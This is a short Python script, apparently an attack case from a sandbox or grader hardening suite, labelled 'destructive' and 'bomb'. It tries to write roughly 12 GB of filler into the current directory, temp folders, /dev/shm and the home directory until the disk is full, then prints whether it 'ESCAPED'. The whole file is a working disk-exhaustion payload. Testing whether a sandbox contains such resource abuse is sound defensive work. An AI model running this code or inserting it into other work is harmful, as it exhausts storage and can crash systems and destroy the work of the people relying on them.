# attack: files are written until the disk is full.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import os
import tempfile

heaviest = "tree-000"
for folder in (".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "@COURSE@"):
    try:
        with open(os.path.join(folder, "full"), "wb") as file:
            for _ in range(3000):
                file.write(b"x" * 2**22)
                file.flush()
        print("ESCAPED: 12 GB in", folder)
    except OSError as error:
        print("stopped:", error)
